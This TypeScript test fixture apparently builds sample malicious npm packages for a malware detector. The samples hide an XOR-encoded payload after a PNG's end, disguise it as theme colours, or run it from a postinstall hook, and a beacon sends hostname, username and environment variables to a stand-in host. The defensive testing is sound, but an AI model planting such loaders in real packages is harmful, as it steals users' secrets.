import { casesOf } from '../case';
import { inert } from '../inert';
import { png, xored } from '../media';
import { npm } from '../packages';

/** The same technique where a hook or an entry of npm reads the asset. */
export const pictureScript = casesOf({
  id: 'kind-asset',
  incident: 'kind',
  kind: 'asset',
  seen: 'an entry reads the bytes after the end of a picture, decodes and evaluates them',
  replica: npm('svg-avatars', '1.3.0', () => pictureParts('assets/default.png', 'a1b2')),
  renamed: npm('badge-maker-kit', '0.4.2', () => pictureParts('static/sprite.png', 'zz09')),
  reObfuscated: npm('svg-avatars', '1.3.1', () => ({
    about: 'Pictures for people without one.',
    index: (honest) =>
      `${honest}\nconst theme = require('./themes/dark.json');\nconst run = [].constructor.constructor;\nrun('require', theme.palette.map((c) => String.fromCharCode(parseInt(c.slice(1, 3), 16), parseInt(c.slice(3, 5), 16), parseInt(c.slice(5), 16))).join(''))(require);\n`,
    files: {
      'themes/dark.json': JSON.stringify({ name: 'dark', palette: colours(beacon('avatar-cdn.invalid')) }),
    },
  })),
  otherStage: {
    kind: 'install-hook',
    seen: 'a hook reads the bytes after the end of a picture, decodes and evaluates them',
    sample: npm('svg-avatars', '1.3.2', () => {
      const { index: _index, ...parts } = pictureParts('assets/default.png', 'a1b2');
      return {
        ...parts,
        manifest: { scripts: { postinstall: 'node assets/optimise.js' } },
        files: { ...parts.files, 'assets/optimise.js': picture('/default.png', 'a1b2') },
      };
    }),
  },
});

function beacon(host: string): string {
  return `const os=require('os');const q=require('https').request({hostname:'${host}',method:'POST',path:'/a'});q.on('error',()=>{});q.end(JSON.stringify([os.hostname(),os.userInfo().username,process.env]));`;
}

function picture(file: string, key: string): string {
  return `
const bytes = require('fs').readFileSync(__dirname + '${file}');
const tail = bytes.subarray(bytes.indexOf('IEND') + 8);
const key = Buffer.from('${key}');
eval(Buffer.from(tail.map((byte, at) => byte ^ key[at % key.length])).toString('utf8'));
`;
}

function pictureParts(file: string, key: string) {
  return {
    about: 'Pictures for people without one.',
    index: (honest: string) => honest + picture(`/${file}`, key),
    files: { [file]: png(xored(Buffer.from(inert(beacon('avatar-cdn.invalid'))), key), file) },
  };
}

function colours(code: string): string[] {
  const bytes = Buffer.from(inert(code.padEnd(Math.ceil(code.length / 3) * 3)));
  return Array.from(
    { length: bytes.length / 3 },
    (_, at) => `#${bytes.subarray(at * 3, at * 3 + 3).toString('hex')}`,
  );
}
